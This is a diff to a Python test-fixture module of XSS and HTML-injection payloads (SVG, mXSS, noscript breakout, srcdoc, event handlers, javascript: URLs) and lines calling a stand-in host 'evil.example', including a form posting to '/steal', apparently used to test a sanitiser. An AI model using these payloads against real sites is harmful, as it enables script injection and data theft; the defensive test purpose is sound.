@@ -1,4 +1,4 @@
-"""Texts that try to run a script in the page, to load something from elsewhere, or to change how the page looks and works.
+"""Texts that try to run a script in the page, to load something from elsewhere, or to change how the page works.
 
 Each sets `window.hacked` where it is executed, or asks `evil.example` where it is obeyed; a test sees both.
 """
@@ -16,7 +16,7 @@ MARKUP: Final = (
     "<svg onload=\"window.hacked='svg'\"></svg>",
     "<svg><script>window.hacked='svg script'</script></svg>",
     f'<svg><use href="{EVIL}/sprite.svg#x"/></svg>',
-    f"<svg><animate xlink:href=#x attributeName=href values=javascript:window.hacked=1 /><a id=x><text x=20>go</text></a></svg>",
+    "<svg><animate href=#x attributeName=href values=javascript:window.hacked=1 /><a id=x><text>go</text></a></svg>",
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
     "<noscript><p title=\"</noscript><img src=x onerror=window.hacked='noscript'>\">",
     "<iframe srcdoc=\"<script>parent.hacked='srcdoc'</script>\"></iframe>",
@@ -28,7 +28,7 @@ MARKUP: Final = (
     f"<style>@import '{EVIL}/x.css'; * {{ display: none !important }}</style>",
     f'<div style="position:fixed;inset:0;background:url({EVIL}/b.png)">over everything</div>',
     f'<form action="{EVIL}/steal"><input name="attributes"><button>Go</button></form>',
-    f'<button formaction="javascript:window.hacked=1">Press</button>',
+    '<button formaction="javascript:window.hacked=1">Press</button>',
     "<details open ontoggle=\"window.hacked='toggle'\"><summary>x</summary></details>",
     "<input autofocus onfocus=\"window.hacked='focus'\">",
     "<video><source onerror=\"window.hacked='video'\"></video>",
@@ -127,7 +127,14 @@ def svg() -> str:
 def _event(number: int, text: str) -> str:
     day = f"202703{1 + number % 28:02}"
     said = _escaped(text)
-    return f"BEGIN:VEVENT\r\nUID:{number}\r\nDTSTART;VALUE=DATE:{day}\r\nSUMMARY:{said}\r\nDESCRIPTION:{said}\r\nLOCATION:{said}\r\nEND:VEVENT\r\n"
+    lines = (
+        "BEGIN:VEVENT",
+        f"UID:{number}",
+        f"DTSTART;VALUE=DATE:{day}",
+        *(f"{name}:{said}" for name in ("SUMMARY", "DESCRIPTION", "LOCATION")),
+        "END:VEVENT",
+    )
+    return "".join(f"{line}\r\n" for line in lines)
 
 
 def _escaped(text: str) -> str:
